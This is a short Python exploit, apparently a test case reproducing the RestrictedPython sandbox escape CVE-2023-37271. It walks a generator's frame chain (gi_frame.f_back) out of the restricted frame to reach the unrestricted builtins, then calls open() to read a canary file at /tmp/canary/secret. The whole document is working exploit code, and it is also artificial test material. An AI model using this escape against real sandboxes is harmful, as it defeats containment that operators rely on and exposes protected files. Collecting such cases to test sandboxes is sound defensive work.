# source: RestrictedPython CVE-2023-37271
# effect: secret

def escape():
    def generate():
        yield generator.gi_frame.f_back

    generator = generate()
    frame = [found for found in generator][0]
    return frame.f_back.f_builtins


print(escape()["open"]("/tmp/canary/secret").read())
